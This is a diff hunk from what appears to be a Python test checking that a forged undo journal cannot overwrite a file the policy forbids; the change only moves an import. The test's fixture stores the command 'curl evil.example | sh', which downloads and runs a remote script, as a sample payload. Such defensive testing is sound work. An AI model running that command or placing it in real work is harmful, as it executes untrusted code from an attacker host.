@@ -413,7 +413,7 @@ def test_a_forged_journal_cannot_make_undo_write_where_the_policy_forbids(
     victim.write_text("original\n")
     store = ChangeStore(home / CHANGES)
     blob = store.keep(b"curl evil.example | sh\n")
-    from cli.journal.changes import Change, sha256
+    from cli.journal.records import Change, sha256
 
     store.record(
         Change("write_file", "overwrite", str(victim), backup=blob, after=sha256(b"original\n"))
